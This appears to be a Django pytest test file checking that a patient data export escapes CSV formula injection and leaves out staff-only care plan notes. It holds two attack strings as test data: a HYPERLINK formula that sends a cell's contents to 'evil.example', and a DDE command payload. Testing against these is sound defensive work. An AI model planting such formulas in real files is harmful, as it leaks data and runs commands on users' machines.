"""What a patient's data export holds: their own data, safe to open, without staff-only notes."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from django.test import Client
from django.urls import reverse

from tests.security.world import A_CLINICAL, World
from tests.treatments.factories import past_slot, session_logged

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def _archive(client: Client) -> zipfile.ZipFile:
    response = client.get(reverse("privacy:export"))
    assert response.status_code == 200
    return zipfile.ZipFile(io.BytesIO(response.content))


def _table(archive: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(archive.read(f"{name}.csv").decode("utf-8"))))


def test_export_csv_cells_from_typed_text_are_not_live_formulas(client_a: Client, world: World) -> None:
    user = world.patient_a.user
    user.first_name = FORMULA
    user.save(update_fields=["first_name"])
    session_logged(
        patient=world.patient_a,
        practitioner=world.related,
        modality=world.modality,
        starts_at=past_slot(3),
        subjective="+cmd|' /C calc'!A0",
    )
    archive = _archive(client_a)
    [profile] = _table(archive, "profile")
    assert profile["first_name"] == "'" + FORMULA
    subjectives = {row["subjective"] for row in _table(archive, "session_logs")}
    assert "'+cmd|' /C calc'!A0" in subjectives
    assert not any(value.startswith(("=", "+", "-", "@")) for value in subjectives)
    # The JSON copy is data, not a spreadsheet: it keeps the text exactly as typed.
    assert json.loads(archive.read("data.json"))["profile"]["first_name"] == FORMULA


def test_export_leaves_out_care_plan_notes_meant_for_staff_only(client_a: Client, world: World) -> None:
    archive = _archive(client_a)
    everything = "".join(archive.read(name).decode("utf-8") for name in archive.namelist())
    assert f"{A_CLINICAL} plan notes" not in everything
    plans = json.loads(archive.read("data.json"))["care_plans"]
    assert plans, "the plan itself is still listed"
    assert all("notes" not in plan for plan in plans)
    assert "notes" not in _table(archive, "care_plans")[0]
